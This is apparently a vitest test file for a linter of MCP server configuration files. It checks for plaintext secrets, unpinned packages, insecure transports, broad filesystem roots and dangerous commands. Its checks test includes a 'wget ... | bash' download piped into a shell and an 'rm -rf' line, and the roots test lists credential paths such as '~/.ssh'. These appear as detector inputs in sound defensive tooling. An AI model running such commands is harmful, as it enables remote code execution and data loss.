import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { validate } from '../../../src/engine/index.js';
import { discover } from '../../../src/discover/index.js';
import { mcpRules } from '../../../src/rules/mcp/index.js';
import { expandVariables, mcpServersOf, normalizeMcpConfig, variableReferences } from '../../../src/mcp/index.js';
import { broadRoot, dangerousCommand, insecureUrl, isSecretName, unpinnedPackage } from '../../../src/mcp/checks.js';
import type { McpServer } from '../../../src/mcp/index.js';
import { makeTree, REPO_ROOT } from '../../../../../test/helpers.js';

const FIXTURES = join(REPO_ROOT, 'test/fixtures/mcp');

function findingsOf(root: string): string[] {
  return validate(root, { rules: mcpRules }).findings.map((f) => `${f.ruleId} ${f.file}:${f.line ?? '-'} ${f.severity}`);
}

const server = (fields: Partial<McpServer>): McpServer => ({ name: 's', file: '.mcp.json', line: 1, transport: 'stdio', path: [], raw: {}, ...fields });

describe('mcp/ rules on their fixtures (one broken case each)', () => {
  const expected: Record<string, string[]> = {
    'unknown-shape': ['mcp/unknown-shape .cursor/mcp.json:3 error', 'mcp/unknown-shape .mcp.json:1 error'],
    'stdio-without-command': ['mcp/stdio-without-command .mcp.json:3 error'],
    'remote-without-url': ['mcp/remote-without-url .vscode/mcp.json:4 error'],
    'remote-without-type': ['mcp/remote-without-type .mcp.json:4 error'],
    'deprecated-sse': ['mcp/deprecated-sse .gemini/settings.json:4 warning', 'mcp/deprecated-sse .mcp.json:4 warning'],
    'plaintext-secret': [
      'mcp/plaintext-secret .vscode/mcp.json:6 error',
      'mcp/plaintext-secret .vscode/mcp.json:8 error',
      'mcp/plaintext-secret .vscode/mcp.json:14 error',
      'mcp/plaintext-secret .vscode/mcp.json:15 error',
    ],
    'variable-without-default': ['mcp/variable-without-default .mcp.json:6 warning'],
    'unpinned-package': ['mcp/unpinned-package .mcp.json:3 warning', 'mcp/unpinned-package .mcp.json:4 warning', 'mcp/unpinned-package .mcp.json:5 warning', 'mcp/unpinned-package .mcp.json:6 warning'],
    'insecure-transport': ['mcp/insecure-transport .cursor/mcp.json:3 error', 'mcp/insecure-transport .cursor/mcp.json:5 error'],
    'broad-filesystem-root': ['mcp/broad-filesystem-root claude_desktop_config.json:5 error', 'mcp/broad-filesystem-root claude_desktop_config.json:9 error'],
    'dangerous-command': ['mcp/dangerous-command .mcp.json:4 error', 'mcp/dangerous-command .mcp.json:8 error'],
    'command-with-arguments': ['mcp/command-with-arguments .mcp.json:4 warning'],
    'headers-helper': ['mcp/headers-helper .mcp.json:6 warning'],
    'trust-all-tools': ['mcp/trust-all-tools .gemini/settings.json:6 error'],
  };

  it('every mcp/ rule has a fixture here', () => {
    expect(Object.keys(expected).map((n) => `mcp/${n}`).sort()).toEqual(mcpRules.map((r) => r.id).sort());
  });

  for (const [name, findings] of Object.entries(expected)) {
    it(`${name}: exactly the broken entries`, () => expect(findingsOf(join(FIXTURES, name))).toEqual(findings));
  }

  it('clean: every client shape, pinned packages, references and inputs give nothing', () => {
    expect(findingsOf(join(FIXTURES, 'clean'))).toEqual([]);
  });

  it('plaintext-secret never prints the value, only a redacted form', () => {
    const messages = validate(join(FIXTURES, 'plaintext-secret'), { rules: mcpRules }).findings.map((f) => f.message).join('\n');
    for (const value of ['q8Zr2LkP0vN4tX7bW1yMd3Hs', 'Lm4Tq9Wz2Xc7Vb1Nk5Rj8Hp3', 'Zx8Cv7Bn6Mq5Wr4Te3Yu2Io1', '9fK2mQ7xR4tZ8wL1pV6sJ3nD']) expect(messages).not.toContain(value);
    expect(messages).toMatch(/\(fp [0-9a-f]{12}\)/);
  });

  it('plaintext-secret finds a provider token under any name, built here so no token sits in the repository', () => {
    const token = 'ghp_' + 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8';
    const root = makeTree({ '.mcp.json': JSON.stringify({ mcpServers: { gh: { command: 'node', args: ['s.js'], env: { UPSTREAM: token } } } }, null, 2) });
    const found = validate(root, { rules: mcpRules }).findings.filter((f) => f.ruleId === 'mcp/plaintext-secret');
    expect(found).toHaveLength(1);
    expect(found[0].message).toContain('GitHub');
    expect(found[0].message).not.toContain(token);
  });

  it('a config that does not parse is left to config/syntax', () => {
    const root = makeTree({ '.mcp.json': '{ "mcpServers": { "a": ' });
    expect(findingsOf(root)).toEqual([]);
  });
});

describe('normalizeMcpConfig: every client shape to one list', () => {
  const root = makeTree({
    '.mcp.json': JSON.stringify({ mcpServers: { a: { command: 'node', args: ['a.js'], env: { K: '${K}' } }, r: { type: 'streamable-http', url: 'https://x.example/mcp' } } }, null, 2),
    '.vscode/mcp.json': '{\n  // comment\n  "inputs": [],\n  "servers": { "v": { "type": "sse", "url": "https://v.example/sse" } }\n}\n',
    'plugin/.mcp.json': JSON.stringify({ bare: { command: 'bun', args: ['run', 'start'] } }),
    '.codex/config.toml': '[mcp_servers.c]\ncommand = "npx"\nargs = ["-y", "x@1.0.0"]\n\n[mcp_servers.h]\nurl = "https://h.example/mcp"\nbearer_token_env_var = "H_TOKEN"\nenv_http_headers = { "X-Org" = "ORG_ID" }\n',
    '.gemini/settings.json': JSON.stringify({ theme: 'x', mcpServers: { g: { httpUrl: 'https://g.example/mcp' }, old: { url: 'https://g.example/sse' } } }),
    '.kiro/settings/mcp.json': JSON.stringify({ mcp: { servers: { legacy: { command: 'uvx', args: ['tool==1.0'] } } } }),
  });
  const servers = mcpServersOf(discover(root));
  const byName = Object.fromEntries(servers.map((s) => [s.name, s]));

  it('finds the servers of every shape with their transport', () => {
    expect(servers.map((s) => `${s.file} ${s.name} ${s.transport}`).sort()).toEqual([
      '.codex/config.toml c stdio',
      '.codex/config.toml h http',
      '.gemini/settings.json g http',
      '.gemini/settings.json old sse',
      '.kiro/settings/mcp.json legacy stdio',
      '.mcp.json a stdio',
      '.mcp.json r http',
      '.vscode/mcp.json v sse',
      'plugin/.mcp.json bare stdio',
    ]);
  });

  it('keeps lines, commands, args, env and turns Codex variable names into references', () => {
    expect(byName.a).toMatchObject({ line: 3, command: 'node', args: ['a.js'], env: { K: '${K}' } });
    expect(byName.h.headers).toEqual({ 'X-Org': '${ORG_ID}', Authorization: 'Bearer ${H_TOKEN}' });
    expect(byName.c.line).toBe(1);
    expect(byName.h.line).toBe(5);
    expect(byName.v.line).toBe(4);
  });

  it('gives no servers for a document of another kind', () => {
    const doc = discover(makeTree({ '.cursor/mcp.json': '{"mcp": []}' })).mcpConfigs[0];
    expect(normalizeMcpConfig(doc)).toEqual([]);
  });
});

describe('variables', () => {
  it('recognises every client syntax', () => {
    expect(variableReferences('${A} ${B:-x} ${input:k} ${env:HOME} ${workspaceFolder} $C').map((r) => `${r.kind}:${r.name}:${r.hasDefault}`)).toEqual([
      'env:A:false',
      'env:B:true',
      'input:k:false',
      'env:HOME:false',
      'predefined:workspaceFolder:false',
      'env:C:false',
    ]);
  });

  it('expands like a client, leaving what it cannot know', () => {
    expect(expandVariables('Bearer ${T} ${U:-dflt} ${input:k} $V', { T: 't', V: 'v' })).toEqual({ value: 'Bearer t dflt ${input:k} v', missing: ['input:k'] });
    expect(expandVariables('${W}', {})).toEqual({ value: '${W}', missing: ['W'] });
  });
});

describe('checks', () => {
  it('unpinned: pinned specs pass, unpinned ones do not', () => {
    const pinned = [
      ['npx', ['-y', '@scope/pkg@1.2.3']],
      ['uvx', ['mcp-server-fetch==2025.1.1']],
      ['uvx', ['--from', 'git+https://github.com/o/r@0123456789abcdef0123456789abcdef01234567', 'r']],
      ['docker', ['run', '-i', '--rm', '-e', 'X=1', 'ghcr.io/o/i:1.2.3']],
      ['docker', ['run', 'ghcr.io/o/i@sha256:abc']],
      ['node', ['server.js']],
    ] as const;
    for (const [command, args] of pinned) expect(unpinnedPackage(server({ command, args: [...args] })), `${command} ${args.join(' ')}`).toBeUndefined();
    const unpinned = [
      ['npx', ['pkg@^1.2.0']],
      ['pnpm', ['dlx', 'pkg']],
      ['uvx', ['mcp-server-fetch']],
      ['uvx', ['--from', 'git+https://github.com/o/r@main', 'r']],
      ['docker', ['run', '--name', 'x', 'o/i:latest']],
    ] as const;
    for (const [command, args] of unpinned) expect(unpinnedPackage(server({ command, args: [...args] })), `${command} ${args.join(' ')}`).toBeDefined();
  });

  it('insecure transport: loopback is fine, other hosts are not', () => {
    expect(insecureUrl('http://localhost:3000/mcp')).toBeUndefined();
    expect(insecureUrl('http://127.0.0.1/mcp')).toBeUndefined();
    expect(insecureUrl('http://[::1]:8080/mcp')).toBeUndefined();
    expect(insecureUrl('https://example.com/mcp')).toBeUndefined();
    expect(insecureUrl('http://10.0.0.5/mcp')).toContain('10.0.0.5');
    expect(insecureUrl('ws://user@evil.example:80/ws')).toContain('evil.example');
  });

  it('broad roots', () => {
    for (const p of ['/', '~', '~/', '$HOME', '${userHome}', 'C:\\', 'D:/', '~/.ssh', '/home/ana/.aws/credentials', '~/.config', '/etc', '/Users/ana']) expect(broadRoot(p), p).toBeDefined();
    for (const p of ['./docs', '/Users/ana/projects/app', '~/projects/app', '${workspaceFolder}']) expect(broadRoot(p), p).toBeUndefined();
  });

  it('dangerous commands', () => {
    expect(dangerousCommand(server({ command: 'node', args: ['-e', 'a && b'] }))).toEqual([]);
    expect(dangerousCommand(server({ command: 'sh', args: ['-c', 'cd x; node s.js'] }))).toHaveLength(1);
    expect(dangerousCommand(server({ command: 'node server.js && rm -rf /tmp/x' }))).toEqual(expect.arrayContaining(['`rm -rf`']));
    expect(dangerousCommand(server({ command: 'bash', args: ['-c', 'wget -qO- https://x.example/i | bash'] }))).toContain('a download piped into a shell');
  });

  it('secret names', () => {
    for (const name of ['API_KEY', 'GITHUB_TOKEN', 'dbPassword', 'X-Api-Key', 'Authorization', 'CLIENT_SECRET']) expect(isSecretName(name), name).toBe(true);
    for (const name of ['KEY_FILE', 'TOKEN_URL', 'MONKEY', 'LOG_LEVEL', 'SSH_KEY_PATH']) expect(isSecretName(name), name).toBe(false);
  });
});

describe('docs', () => {
  it('has a page with why, a bad and a good example for every mcp/ rule', () => {
    for (const rule of mcpRules) {
      const page = readFileSync(join(REPO_ROOT, 'docs/rules', `${rule.id}.md`), 'utf8');
      expect(page.startsWith(`# ${rule.id}\n`), rule.id).toBe(true);
      for (const heading of ['## Why', '## Bad', '## Good']) expect(page, `${rule.id} ${heading}`).toContain(heading);
    }
  });
});

describe('mcp/ rules: less common shapes', () => {
  const messagesOf = (root: string, ruleId: string) => validate(root, { rules: mcpRules }).findings.filter((f) => f.ruleId === ruleId).map((f) => `${f.file}:${f.line} ${f.message}`);
  const mcpJson = (servers: Record<string, unknown>) => makeTree({ '.mcp.json': JSON.stringify({ mcpServers: servers }, null, 2) });

  it('insecure-transport: OAuth metadata over http:// is reported on its line; https:// and a non-object oauth are not', () => {
    const root = mcpJson({
      plain: { type: 'http', url: 'https://mcp.example.com/mcp', oauth: { clientId: 'agentship', authServerMetadataUrl: 'http://auth.example.com/.well-known/oauth-authorization-server' } },
      secure: { type: 'http', url: 'https://mcp.example.com/mcp', oauth: { authServerMetadataUrl: ' HTTPS://auth.example.com/.well-known/oauth-authorization-server' } },
      odd: { type: 'http', url: 'https://mcp.example.com/mcp', oauth: 'http://auth.example.com' },
    });
    expect(messagesOf(root, 'mcp/insecure-transport')).toEqual(['.mcp.json:8 MCP server "plain": `oauth.authServerMetadataUrl` must be https:// (MCP authorization spec).']);
  });

  it('stdio-without-command: a command that is not a string is reported at the command', () => {
    const root = mcpJson({ list: { command: ['node', 'server.js'] }, blank: { command: '  ' } });
    expect(messagesOf(root, 'mcp/stdio-without-command')).toEqual([
      '.mcp.json:4 MCP server "list" has a `command` that is not a non-empty string; the client cannot start it.',
      '.mcp.json:10 MCP server "blank" has a `command` that is not a non-empty string; the client cannot start it.',
    ]);
  });

  it('unpinned-package: a package named inside the command string is reported at the command', () => {
    const root = mcpJson({ fetch: { command: 'npx -y mcp-server-fetch' } });
    expect(messagesOf(root, 'mcp/unpinned-package')).toEqual([expect.stringMatching(/^\.mcp\.json:4 MCP server "fetch" runs `mcp-server-fetch` unpinned: /)]);
  });

  it('remote-without-url: a blank url without a type is a remote server without a url', () => {
    expect(messagesOf(mcpJson({ docs: { url: ' ' } }), 'mcp/remote-without-url')).toEqual(['.mcp.json:3 MCP server "docs" is of type "http" but has no `url`.']);
  });

  it('plaintext-secret: a literal under a secret-like name reads "has a literal value", never "a a", and never shows the value', () => {
    const root = mcpJson({ db: { command: 'node', args: ['db.js'], env: { DB_PASSWORD: 'correct-horse-battery' } } });
    const [message] = messagesOf(root, 'mcp/plaintext-secret');
    expect(message).toMatch(/^\.mcp\.json:9 MCP server "db" has a literal value under DB_PASSWORD in plain text at `env\.DB_PASSWORD` \(/);
    expect(message).not.toContain('correct-horse-battery');
    // A detector's kind that starts with a vowel takes "an".
    const key = 'sk-proj-' + 'Rk3Tn8Qw2Zp5Lx7Vb4Mc' + 'T3BlbkFJ' + 'Hy6Jd1Gs9Fa2Ke5Wq8Ur';
    const [openai] = messagesOf(mcpJson({ llm: { command: 'node', env: { OPENAI_API_KEY: key } } }), 'mcp/plaintext-secret');
    expect(openai).toMatch(/^\.mcp\.json:6 MCP server "llm" has an OpenAI API key in plain text at `env\.OPENAI_API_KEY` \(/);
    expect(openai).not.toContain(key);
  });

  it('insecure-transport: Gemini\'s httpUrl over http:// is reported on the httpUrl line', () => {
    const root = makeTree({ '.gemini/settings.json': JSON.stringify({ mcpServers: { docs: { timeout: 5000, httpUrl: 'http://docs.example.com/mcp' } } }, null, 2) });
    expect(messagesOf(root, 'mcp/insecure-transport')).toEqual([expect.stringMatching(/^\.gemini\/settings\.json:5 MCP server "docs": .*docs\.example\.com.*; use https:\/\/ or wss:\/\/\.$/)]);
  });
});

describe('container mounts', () => {
  it('a docker server mounting the home folder is a broad root, at the mount argument', () => {
    const root = makeTree({ '.mcp.json': JSON.stringify({ mcpServers: { box: { command: 'docker', args: ['run', '-i', '--rm', '-v', '${HOME}:/data', '--mount=type=bind,src=/,dst=/host', 'o/i:1.0.0'] } } }, null, 2) });
    // ${HOME} without a default is a finding of its own: unset, docker gets the literal text.
    expect(findingsOf(root)).toEqual(['mcp/broad-filesystem-root .mcp.json:10 error', 'mcp/variable-without-default .mcp.json:10 warning', 'mcp/broad-filesystem-root .mcp.json:11 error']);
  });
});
